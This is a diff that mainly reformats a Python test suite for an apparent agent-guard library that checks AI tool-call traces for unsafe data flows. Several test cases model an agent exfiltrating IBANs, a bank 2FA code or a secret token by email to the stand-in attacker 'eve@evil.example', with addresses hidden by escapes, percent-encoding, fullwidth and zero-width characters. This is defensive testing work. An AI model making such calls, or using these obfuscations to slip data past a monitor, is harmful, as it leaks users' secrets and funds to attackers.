@@ -33,16 +33,24 @@ from tests.traces.synthetic import proposed, thread
 TRACES = Path(__file__).parent / "traces"
 LABELS = Labels.load(TRACES / "assistant_labels.yaml")
 POLICY_EXPRESSIONS = [
-    'arg_from_trusted("@recipients")', 'arg_from_user("@recipients")', 'arg_from_trusted("*")',
+    'arg_from_trusted("@recipients")',
+    'arg_from_user("@recipients")',
+    'arg_from_trusted("*")',
     'arg_from_designated("@recipients", via=["read_file", "read_email"])',
-    'arg_from_trusted("url", part="domain")', "secret_flow()", "consent_given()",
-    'arg_from_user("body")', 'arg_only_untrusted("*")', 'arg_invented("*")',
-    'value_from_sensitive("*")', 'arg_from_trusted_tool("to")',
-]  # fmt: skip
+    'arg_from_trusted("url", part="domain")',
+    "secret_flow()",
+    "consent_given()",
+    'arg_from_user("body")',
+    'arg_only_untrusted("*")',
+    'arg_invented("*")',
+    'value_from_sensitive("*")',
+    'arg_from_trusted_tool("to")',
+]
 
 
-def _both(messages: list[dict[str, Any]], call: dict[str, Any] | None
-          ) -> tuple[Any, TraceIndex, LookupSearch]:  # fmt: skip
+def _both(
+    messages: list[dict[str, Any]], call: dict[str, Any] | None
+) -> tuple[Any, TraceIndex, LookupSearch]:
     trace = parse_trace(messages, call, labels=LABELS)
     full = TraceIndex(LABELS.phone_region)
     full.update(trace)
@@ -82,8 +90,10 @@ def same_answers(messages: list[dict[str, Any]], call: dict[str, Any] | None) ->
 @given(st.data())
 def test_generated_threads_answer_as_the_index(data: Any) -> None:
     messages = data.draw(tool_threads())
-    call = {"name": "send_email", "args": {"to": data.draw(st.sampled_from(FRAGMENTS)),
-                                            "body": data.draw(texts())}}  # fmt: skip
+    call = {
+        "name": "send_email",
+        "args": {"to": data.draw(st.sampled_from(FRAGMENTS)), "body": data.draw(texts())},
+    }
     same_answers(messages, call)
 
 
@@ -100,20 +110,36 @@ def test_example_traces_answer_as_the_index(path: Path) -> None:
 
 
 def _result(i: str, text: str) -> list[dict[str, Any]]:
-    return [{"role": "assistant", "content": None, "tool_calls": [{"id": i, "type": "function",
-             "function": {"name": "read_inbox", "arguments": "{}"}}]},
-            {"role": "tool", "tool_call_id": i, "content": text}]  # fmt: skip
+    return [
+        {
+            "role": "assistant",
+            "content": None,
+            "tool_calls": [
+                {"id": i, "type": "function", "function": {"name": "read_inbox", "arguments": "{}"}}
+            ],
+        },
+        {"role": "tool", "tool_call_id": i, "content": text},
+    ]
 
 
-@pytest.mark.parametrize("head,rest", [("Pay DE89 3704 0044", "0532 0130 00 now"),
-                                       ("Pay DE89-3704-0044-", "0532-0130-00 now"),
-                                       ("Call +41 44 668", "18 00 today"),
-                                       ("Write to bob.smith@exa", "mple.org today")])  # fmt: skip
+@pytest.mark.parametrize(
+    "head,rest",
+    [
+        ("Pay DE89 3704 0044", "0532 0130 00 now"),
+        ("Pay DE89-3704-0044-", "0532-0130-00 now"),
+        ("Call +41 44 668", "18 00 today"),
+        ("Write to bob.smith@exa", "mple.org today"),
+    ],
+)
 def test_a_value_split_across_two_results_is_found_in_both(head: str, rest: str) -> None:
-    messages = [{"role": "user", "content": "Read my inbox."},
-                *_result("c1", head), *_result("c2", rest)]  # fmt: skip
-    value = (head.split(maxsplit=1)[1] + ("" if head.endswith(("-", "a")) else " ") + rest
-             ).rsplit(" ", 1)[0]  # fmt: skip
+    messages = [
+        {"role": "user", "content": "Read my inbox."},
+        *_result("c1", head),
+        *_result("c2", rest),
+    ]
+    value = (head.split(maxsplit=1)[1] + ("" if head.endswith(("-", "a")) else " ") + rest).rsplit(
+        " ", 1
+    )[0]
     call = {"name": "send_email", "args": {"to": "x@y.org", "body": value}}
     same_answers(messages, call)
     _, full, lookup = _both(messages, call)
@@ -124,8 +150,11 @@ def test_a_value_split_across_two_results_is_found_in_both(head: str, rest: str)
 
 def test_the_kelvin_sign_is_the_only_character_lower_making_ascii() -> None:
     """Why an ASCII local part must be written as such (the e-mail needle; see lookup)."""
-    odd = [chr(c) for c in range(sys.maxunicode + 1)
-           if not chr(c).isascii() and chr(c).lower().isascii()]  # fmt: skip
+    odd = [
+        chr(c)
+        for c in range(sys.maxunicode + 1)
+        if not chr(c).isascii() and chr(c).lower().isascii()
+    ]
     assert odd == ["\u212a"]
     assert unicodedata.normalize("NFKC", "\u212a") == "K"
     assert "\u212a" not in reading_form("bob\u212a@x.org \u212aelvin")
@@ -136,7 +165,8 @@ def test_needles_are_in_every_form_of_their_values() -> None:
     from guardagent.trace.sources.lookup import Segments
 
     cases = {
-        "ＢＯＢ@x.org": "email:bob@x.org", "BOB@Example.ORG": "email:bob@example.org",
+        "ＢＯＢ@x.org": "email:bob@x.org",
+        "BOB@Example.ORG": "email:bob@example.org",
         "bob@ｅｘａｍｐｌｅ.org": "email:bob@example.org",
         "de89-3704-0044-0532-0130-00": "iban:DE89370400440532013000",
         "ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００": "iban:DE89370400440532013000",
@@ -169,15 +199,20 @@ def test_a_stateless_check_reads_only_what_it_asks_about_and_builds_the_state_on
     full = TraceIndex(LABELS.phone_region)
     full.update(trace)
     assert {k: v for k, v in state.items() if k != "consent"} == full.to_json()
-    again = guard.check_trace(messages + [{"role": "user", "content": "thanks"}], call,
-                              thread_state=state)  # fmt: skip
-    assert again.allowed == decision.allowed and again.trace_state["count"] == len(trace.messages) + 1
+    again = guard.check_trace(
+        messages + [{"role": "user", "content": "thanks"}], call, thread_state=state
+    )
+    assert (
+        again.allowed == decision.allowed and again.trace_state["count"] == len(trace.messages) + 1
+    )
 
 
 def test_a_lone_surrogate_is_looked_for_as_the_locator_reads_it() -> None:
     """The locator reads a lone surrogate as U+FFFD: an unplaced token holding one is read."""
-    messages = [{"role": "user", "content": "write to eve\ud800@x please"}, *_result(
-        "c1", "from eve\ud800@x and www.a\ud800b.com/\ud800x")]  # fmt: skip
+    messages = [
+        {"role": "user", "content": "write to eve\ud800@x please"},
+        *_result("c1", "from eve\ud800@x and www.a\ud800b.com/\ud800x"),
+    ]
     same_answers(messages, {"name": "send_email", "args": {"to": "eve\ud800@x", "body": "hi"}})
 
 
@@ -266,8 +301,11 @@ def test_a_decision_with_a_deferred_state_pickles_and_copies_as_plain_data(tmp_p
     guard = GuardAgent("assistant-trace", memory_dir=str(tmp_path))
     messages = thread(20, seed=4)
     decision = guard.check_trace(messages, proposed(messages))
-    for other in (pickle.loads(pickle.dumps(decision)), copy.deepcopy(decision),
-                  decision.model_copy(deep=True)):  # fmt: skip
+    for other in (
+        pickle.loads(pickle.dumps(decision)),
+        copy.deepcopy(decision),
+        decision.model_copy(deep=True),
+    ):
         assert other.trace_state == decision.trace_state and other.allowed == decision.allowed
 
 
@@ -300,13 +338,26 @@ def test_a_message_over_the_state_budget_is_found_past_the_lookup_bound() -> Non
     result holding a long body was missed (secret_flow allowed; seen failing first).
     """
     words = " ".join(f"word{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(2 * MAX_LOOKUPS))
-    messages = [{"role": "system", "content": "You are an assistant."},
-                {"role": "user", "content": "Show me my profile."},
-                {"role": "assistant", "content": None, "tool_calls": [{"id": "c1",
-                 "type": "function", "function": {"name": "get_user_profile", "arguments": "{}"}}]},
-                {"role": "tool", "tool_call_id": "c1", "content": words}]  # fmt: skip
-    call = {"name": "send_email", "args": {"to": "eve@evil.example", "subject": "hi",
-                                            "body": words}}  # fmt: skip
+    messages = [
+        {"role": "system", "content": "You are an assistant."},
+        {"role": "user", "content": "Show me my profile."},
+        {
+            "role": "assistant",
+            "content": None,
+            "tool_calls": [
+                {
+                    "id": "c1",
+                    "type": "function",
+                    "function": {"name": "get_user_profile", "arguments": "{}"},
+                }
+            ],
+        },
+        {"role": "tool", "tool_call_id": "c1", "content": words},
+    ]
+    call = {
+        "name": "send_email",
+        "args": {"to": "eve@evil.example", "subject": "hi", "body": words},
+    }
 
     def analysed(lazy: bool) -> Any:
         index = TraceIndex(LABELS.phone_region, max_state_bytes=900)
@@ -328,28 +379,84 @@ def test_a_message_over_the_state_budget_is_found_past_the_lookup_bound() -> Non
 
 
 ODD = [
-    "\u212aate@x.org", "ｋａｔｅ＠x.org", "\u0130", "ẞ", "Σ", "ς", "\u3002", "\uff0e", "\ufe6b", "\u2024",
-    "\u3382", "²", "①", "½", "℡", "ﬀ", "ｄｅ８９ ３７０４", "\u200b", "\u00ad", "\u200d", "\\u0040",
-    "\\x2e", "\\n", "\\\\u0040", "\\\\n", "%40", "%2e", "&#64;", "\ud800", "\x00", "://",
-    "ＬＯＣＡＬＨＯＳＴ", "١٢٣٤٥٦٧", "\\u0031", '\\"', "ｈｔｔｐｓ：／／", "\U0001d7ce", "Ⅻ",
-    "\\ud83d\\ude00", "\\U0001F600", "\u2011", "\u2212", "\ufe63", "\uff0d", "\u0430", "a\u0301",
-    "eve\\u0040evil.example", "de89\\u00203704", "DE89\u200b3704", "bob@exa\nmple.org",
-]  # fmt: skip
+    "\u212aate@x.org",
+    "ｋａｔｅ＠x.org",
+    "\u0130",
+    "ẞ",
+    "Σ",
+    "ς",
+    "\u3002",
+    "\uff0e",
+    "\ufe6b",
+    "\u2024",
+    "\u3382",
+    "²",
+    "①",
+    "½",
+    "℡",
+    "ﬀ",
+    "ｄｅ８９ ３７０４",
+    "\u200b",
+    "\u00ad",
+    "\u200d",
+    "\\u0040",
+    "\\x2e",
+    "\\n",
+    "\\\\u0040",
+    "\\\\n",
+    "%40",
+    "%2e",
+    "&#64;",
+    "\ud800",
+    "\x00",
+    "://",
+    "ＬＯＣＡＬＨＯＳＴ",
+    "١٢٣٤٥٦٧",
+    "\\u0031",
+    '\\"',
+    "ｈｔｔｐｓ：／／",
+    "\U0001d7ce",
+    "Ⅻ",
+    "\\ud83d\\ude00",
+    "\\U0001F600",
+    "\u2011",
+    "\u2212",
+    "\ufe63",
+    "\uff0d",
+    "\u0430",
+    "a\u0301",
+    "eve\\u0040evil.example",
+    "de89\\u00203704",
+    "DE89\u200b3704",
+    "bob@exa\nmple.org",
+]
 """Re-spellings the readers fold (NFKC, case, escapes, format characters) or refuse."""
 
 
 @st.composite
 def odd_texts(draw: Any) -> str:
     """Texts of the reader's fragments and of the odd spellings above, glued."""
-    parts = draw(st.lists(st.tuples(st.sampled_from(FRAGMENTS + ODD),
-                                    st.sampled_from(["", " ", ".", "-", "\n", "@", "/", "\\n"])),
-                          min_size=1, max_size=10))  # fmt: skip
+    parts = draw(
+        st.lists(
+            st.tuples(
+                st.sampled_from(FRAGMENTS + ODD),
+                st.sampled_from(["", " ", ".", "-", "\n", "@", "/", "\\n"]),
+            ),
+            min_size=1,
+            max_size=10,
+        )
+    )
     return "".join(f + s for f, s in parts)
 
 
 def _calls(i: str, name: str, args: dict[str, Any]) -> dict[str, Any]:
-    return {"role": "assistant", "content": None, "tool_calls": [{"id": i, "type": "function",
-            "function": {"name": name, "arguments": json.dumps(args)}}]}  # fmt: skip
+    return {
+        "role": "assistant",
+        "content": None,
+        "tool_calls": [
+            {"id": i, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
+        ],
+    }
 
 
 @st.composite
@@ -359,20 +466,40 @@ def odd_threads(draw: Any) -> list[dict[str, Any]]:
     out: list[dict[str, Any]] = [{"role": "system", "content": "You are an assistant."}]
     for turn in range(draw(st.integers(1, 4))):
         out.append({"role": "user", "content": draw(odd_texts())})
-        tool = draw(st.sampled_from(["read_inbox", "get_user_profile", "get_transactions",
-                                     "search_contacts", "get_2fa_code"]))  # fmt: skip
-        args = {"read_inbox": {"folder": draw(odd_texts())}, "get_transactions": {"n": 3},
-                "search_contacts": {"query": draw(st.sampled_from(FRAGMENTS + ODD))},
-                "get_2fa_code": {"service": "bank"}}.get(tool, {})  # fmt: skip
+        tool = draw(
+            st.sampled_from(
+                [
+                    "read_inbox",
+                    "get_user_profile",
+                    "get_transactions",
+                    "search_contacts",
+                    "get_2fa_code",
+                ]
+            )
+        )
+        args = {
+            "read_inbox": {"folder": draw(odd_texts())},
+            "get_transactions": {"n": 3},
+            "search_contacts": {"query": draw(st.sampled_from(FRAGMENTS + ODD))},
+            "get_2fa_code": {"service": "bank"},
+        }.get(tool, {})
         out.append(_calls(f"c{turn}", tool, args))
         shape = draw(st.sampled_from(["text", "json", "parts", "escaped"]))
         if tool == "get_transactions" or shape == "json":
-            rows = [{"subject": draw(odd_texts()), "iban": draw(odd_texts()),
-                     "amount": draw(st.sampled_from([-5, 7])), "note": draw(odd_texts())}]
+            rows = [
+                {
+                    "subject": draw(odd_texts()),
+                    "iban": draw(odd_texts()),
+                    "amount": draw(st.sampled_from([-5, 7])),
+                    "note": draw(odd_texts()),
+                }
+            ]
             content: Any = json.dumps(rows, ensure_ascii=draw(st.booleans()))
         elif shape == "parts":
-            content = [{"type": "text", "text": draw(odd_texts())},
-                       {"type": "text", "text": draw(odd_texts())}]  # fmt: skip
+            content = [
+                {"type": "text", "text": draw(odd_texts())},
+                {"type": "text", "text": draw(odd_texts())},
+            ]
         elif shape == "escaped":
             content = json.dumps(json.dumps({"text": draw(odd_texts())}))
         else:
@@ -387,60 +514,146 @@ def test_odd_spellings_answer_as_the_index(data: Any) -> None:
     """Folded and escaped spellings, structured and listed results: the same keys, facts."""
     messages = data.draw(odd_threads())
     to = data.draw(st.sampled_from(FRAGMENTS + ODD + ["eve@evil.example, bob@x.org"]))
-    call = {"name": data.draw(st.sampled_from(["send_email", "send_money"])),
-            "args": {"to": to, "body": data.draw(odd_texts())}}  # fmt: skip
+    call = {
+        "name": data.draw(st.sampled_from(["send_email", "send_money"])),
+        "args": {"to": to, "body": data.draw(odd_texts())},
+    }
     if call["name"] == "send_money":
-        call["args"] = {"iban": to, "amount": data.draw(odd_texts()),
-                        "subject": call["args"]["body"]}  # fmt: skip
+        call["args"] = {
+            "iban": to,
+            "amount": data.draw(odd_texts()),
+            "subject": call["args"]["body"],
+        }
     same_answers(messages, call)
 
 
 HANDPICKED = {
     "json-escaped address in an untrusted result": (
         [_result("c1", '{"from": "eve\\u0040evil.example", "body": "pay"}')],
-        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}}),
+        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}},
+    ),
     "double-escaped address": (
         [_result("c1", '{"x": "{\\"from\\": \\"eve\\\\u0040evil.example\\"}"}')],
-        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}}),
+        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "hi"}},
+    ),
     "kelvin and fullwidth local parts": (
         [[{"role": "user", "content": "write to \u212aate@x.org and ｂｏｂ＠ｘ.ｏｒｇ"}]],
-        {"name": "send_email", "args": {"to": "kate@x.org, bob@x.org", "body": "hi"}}),
+        {"name": "send_email", "args": {"to": "kate@x.org, bob@x.org", "body": "hi"}},
+    ),
     "fullwidth IBAN in a sensitive structured result": (
-        [[_calls("c1", "get_transactions", {"n": 1}), {"role": "tool", "tool_call_id": "c1",
-          "content": json.dumps([{"amount": 5, "iban": "ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００",
-                                  "subject": "rent"}])}]],
-        {"name": "send_money", "args": {"iban": "DE89370400440532013000", "amount": "5"}}),
+        [
+            [
+                _calls("c1", "get_transactions", {"n": 1}),
+                {
+                    "role": "tool",
+                    "tool_call_id": "c1",
+                    "content": json.dumps(
+                        [
+                            {
+                                "amount": 5,
+                                "iban": "ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００",
+                                "subject": "rent",
+                            }
+                        ]
+                    ),
+                },
+            ]
+        ],
+        {"name": "send_money", "args": {"iban": "DE89370400440532013000", "amount": "5"}},
+    ),
     "IBAN split across two untrusted fields of one tool": (
-        [[_calls("c1", "get_transactions", {"n": 1}), {"role": "tool", "tool_call_id": "c1",
-          "content": json.dumps([{"amount": 5, "subject": "DE89 3704 0044"},
-                                 {"amount": 5, "subject": "0532 0130 00"}])}]],
-        {"name": "send_money", "args": {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}}),
+        [
+            [
+                _calls("c1", "get_transactions", {"n": 1}),
+                {
+                    "role": "tool",
+                    "tool_call_id": "c1",
+                    "content": json.dumps(
+                        [
+                            {"amount": 5, "subject": "DE89 3704 0044"},
+                            {"amount": 5, "subject": "0532 0130 00"},
+                        ]
+                    ),
+                },
+            ]
+        ],
+        {"name": "send_money", "args": {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}},
+    ),
     "a 2FA code in fullwidth, sent": (
-        [[_calls("c1", "get_2fa_code", {"service": "bank"}),
-          {"role": "tool", "tool_call_id": "c1", "content": "Your code: ＡＢ１２３４５６"}]],
-        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "code ab123456"}}),
+        [
+            [
+                _calls("c1", "get_2fa_code", {"service": "bank"}),
+                {"role": "tool", "tool_call_id": "c1", "content": "Your code: ＡＢ１２３４５６"},
+            ]
+        ],
+        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "code ab123456"}},
+    ),
     "content list and an escaped line break": (
-        [[_calls("c1", "get_user_profile", {}), {"role": "tool", "tool_call_id": "c1",
-          "content": [{"type": "text", "text": "iban: CH93 0076 2011\\n"},
-                      {"type": "text", "text": "6238 5295 7 phone +41 44 668 18 00"}]}]],
-        {"name": "send_email", "args": {"to": "x@y.org", "body": "CH93 0076 2011 6238 5295 7"}}),
+        [
+            [
+                _calls("c1", "get_user_profile", {}),
+                {
+                    "role": "tool",
+                    "tool_call_id": "c1",
+                    "content": [
+                        {"type": "text", "text": "iban: CH93 0076 2011\\n"},
+                        {"type": "text", "text": "6238 5295 7 phone +41 44 668 18 00"},
+                    ],
+                },
+            ]
+        ],
+        {"name": "send_email", "args": {"to": "x@y.org", "body": "CH93 0076 2011 6238 5295 7"}},
+    ),
     "anthropic tool_result parts": (
-        [[{"role": "assistant", "content": [{"type": "tool_use", "id": "t1",
-           "name": "get_user_profile", "input": {}}]},
-          {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
-           "content": "secret token ZX81SPECTRUM48 and eve\\u0040evil.example"}]}]],
-        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "ZX81SPECTRUM48"}}),
+        [
+            [
+                {
+                    "role": "assistant",
+                    "content": [
+                        {"type": "tool_use", "id": "t1", "name": "get_user_profile", "input": {}}
+                    ],
+                },
+                {
+                    "role": "user",
+                    "content": [
+                        {
+                            "type": "tool_result",
+                            "tool_use_id": "t1",
+                            "content": "secret token ZX81SPECTRUM48 and eve\\u0040evil.example",
+                        }
+                    ],
+                },
+            ]
+        ],
+        {"name": "send_email", "args": {"to": "eve@evil.example", "body": "ZX81SPECTRUM48"}},
+    ),
     "a carried URL and a percent-encoded address": (
-        [_result("c1", "see https://trusted.example/r?url=https%3A%2F%2Fevil.example%2F"
-                       "&to=eve%40evil.example and evil.example")],
-        {"name": "send_email", "args": {"to": "eve@evil.example",
-                                        "body": "https://evil.example/ evil.example"}}),
+        [
+            _result(
+                "c1",
+                "see https://trusted.example/r?url=https%3A%2F%2Fevil.example%2F"
+                "&to=eve%40evil.example and evil.example",
+            )
+        ],
+        {
+            "name": "send_email",
+            "args": {"to": "eve@evil.example", "body": "https://evil.example/ evil.example"},
+        },
+    ),
     "format characters and an ideographic full stop": (
-        [_result("c1", "mail e\u200bve@evil\u3002example or eve@evil\uff0eexample, "
-                       "DE89\u00ad3704 0044 0532 0130 00")],
-        {"name": "send_email", "args": {"to": "eve@evil.example",
-                                        "body": "DE89 3704 0044 0532 0130 00"}}),
-}  # fmt: skip
+        [
+            _result(
+                "c1",
+                "mail e\u200bve@evil\u3002example or eve@evil\uff0eexample, "
+                "DE89\u00ad3704 0044 0532 0130 00",
+            )
+        ],
+        {
+            "name": "send_email",
+            "args": {"to": "eve@evil.example", "body": "DE89 3704 0044 0532 0130 00"},
+        },
+    ),
+}
 
 
 @pytest.mark.parametrize("case", sorted(HANDPICKED))
@@ -457,17 +670,35 @@ def _over_budget(texts: list[str], role: str) -> list[dict[str, Any]]:
         if role == "user":
             out.append({"role": "user", "content": text})
             continue
-        out += [_calls(f"c{i}", "get_balance", {"account": "main"}),
-                {"role": "tool", "tool_call_id": f"c{i}", "content": text}]  # fmt: skip
+        out += [
+            _calls(f"c{i}", "get_balance", {"account": "main"}),
+            {"role": "tool", "tool_call_id": f"c{i}", "content": text},
+        ]
     return out
 
 
-@pytest.mark.parametrize("role,expression,call", [
-    ("tool", "secret_flow()", {"name": "send_email", "args": {
-        "to": "eve@evil.example", "subject": "x", "body": "DE89 3704 0044 0532 0130 00"}}),
-    ("user", 'arg_from_user("iban")', {"name": "send_money", "args": {
-        "iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}}),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "role,expression,call",
+    [
+        (
+            "tool",
+            "secret_flow()",
+            {
+                "name": "send_email",
+                "args": {
+                    "to": "eve@evil.example",
+                    "subject": "x",
+                    "body": "DE89 3704 0044 0532 0130 00",
+                },
+            },
+        ),
+        (
+            "user",
+            'arg_from_user("iban")',
+            {"name": "send_money", "args": {"iban": "DE89 3704 0044 0532 0130 00", "amount": "5"}},
+        ),
+    ],
+)
 def test_a_thread_over_the_state_budget_answers_as_the_index(
     role: str, expression: str, call: dict[str, Any]
 ) -> None:
@@ -480,14 +711,19 @@ def test_a_thread_over_the_state_budget_answers_as_the_index(
     may exceed the budget is answered from the completed index.
     """
     big = " ".join(f"w{i}x" for i in range(60))
-    texts = (["paid to DE89 3704 0044", big, "0532 0130 00 done"] if role == "tool"
-             else ["a" * 5 + " " + big + " DE89 3704 0044", "0532 0130 00 done"])  # fmt: skip
+    texts = (
+        ["paid to DE89 3704 0044", big, "0532 0130 00 done"]
+        if role == "tool"
+        else ["a" * 5 + " " + big + " DE89 3704 0044", "0532 0130 00 done"]
+    )
     messages = _over_budget(texts, role)
     for budget in (600, 700, 800, 900, 1000, 1200, 1_000_000):
+
         def analysed(lazy: bool) -> Any:
             index = TraceIndex(LABELS.phone_region, max_state_bytes=budget)  # noqa: B023
-            return analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=index,
-                           lazy=lazy)  # fmt: skip
+            return analyze(
+                parse_trace(messages, call, labels=LABELS), LABELS, index=index, lazy=lazy
+            )
 
         eager, lazy = analysed(False), analysed(True)
         for e in (expression, *POLICY_EXPRESSIONS):
@@ -514,20 +750,38 @@ def test_hosts_save_the_state_an_eager_index_saves(
 
     profile = str(trace_profile(tmp_path))
     signed = tmp_path / "consent.json"
-    signed.write_text(json.dumps([Consent("send_money", args=ATTACK, thread="t1").signed(
-        KEY.encode())]), encoding="utf-8")  # fmt: skip
-    runs = [[str(PAYMENT), "--consent", str(signed)], [str(PAYMENT)],
-            *[[str(p)] for p in sorted(TRACES.glob("*.json"))[:6]]]  # fmt: skip
+    signed.write_text(
+        json.dumps([Consent("send_money", args=ATTACK, thread="t1").signed(KEY.encode())]),
+        encoding="utf-8",
+    )
+    runs = [
+        [str(PAYMENT), "--consent", str(signed)],
+        [str(PAYMENT)],
+        *[[str(p)] for p in sorted(TRACES.glob("*.json"))[:6]],
+    ]
     messages = thread(30, seed=9)
 
     def states(tag: str) -> list[Any]:
         out = []
         for n, args in enumerate(runs):
             path = tmp_path / f"{tag}{n}.json"
-            result = CliRunner().invoke(main, ["check", "--profile", profile, "--trace", *args,
-                                               "--state", str(path), "--thread-id", "t1",
-                                               "--fields", "allowed"],
-                                        env={"GUARDAGENT_TRACE_KEY": KEY})  # fmt: skip
+            result = CliRunner().invoke(
+                main,
+                [
+                    "check",
+                    "--profile",
+                    profile,
+                    "--trace",
+                    *args,
+                    "--state",
+                    str(path),
+                    "--thread-id",
+                    "t1",
+                    "--fields",
+                    "allowed",
+                ],
+                env={"GUARDAGENT_TRACE_KEY": KEY},
+            )
             assert result.exit_code in (0, 1), result.output
             out.append((result.output, path.read_text(encoding="utf-8")))
         guard = GuardAgent(profile=profile)
@@ -550,8 +804,9 @@ def _bounds_hold(messages: list[dict[str, Any]], call: dict[str, Any] | None) ->
     segments = lookup.messages()
     pairs = list(zip(segments.texts["words"], segments.texts["forms"], strict=True))
     for tight, exact in ((False, False), (True, False), (True, True)):
-        bound = state_bound(trace, 400, pairs, tight=tight, exact=exact, region=full.region,
-                            year=full.year)  # fmt: skip
+        bound = state_bound(
+            trace, 400, pairs, tight=tight, exact=exact, region=full.region, year=full.year
+        )
         assert bound >= full._size, (tight, exact, bound, full._size)
     for message in trace.messages:
         for c in [*message.calls, trace.call]:
@@ -563,9 +818,12 @@ def _bounds_hold(messages: list[dict[str, Any]], call: dict[str, Any] | None) ->
 def test_the_state_size_bound_holds(data: Any) -> None:
     """The bound that lets the lookup answer is above the index's size (odd threads, args)."""
     messages = data.draw(st.one_of(odd_threads(), tool_threads()))
-    args = {"to": data.draw(st.sampled_from(FRAGMENTS + ODD)), "body": data.draw(odd_texts()),
-            "cc": [data.draw(odd_texts()), 3, 2.5e300, None, True, 10**400 + 1],
-            "bcc": 'Eve <eve@evil.example>, "b"@x.org, (c) d@e.org, ｆ@ｇ.org'}  # fmt: skip
+    args = {
+        "to": data.draw(st.sampled_from(FRAGMENTS + ODD)),
+        "body": data.draw(odd_texts()),
+        "cc": [data.draw(odd_texts()), 3, 2.5e300, None, True, 10**400 + 1],
+        "bcc": 'Eve <eve@evil.example>, "b"@x.org, (c) d@e.org, ｆ@ｇ.org',
+    }
     _bounds_hold(messages, {"name": "send_email", "args": args})
 
 
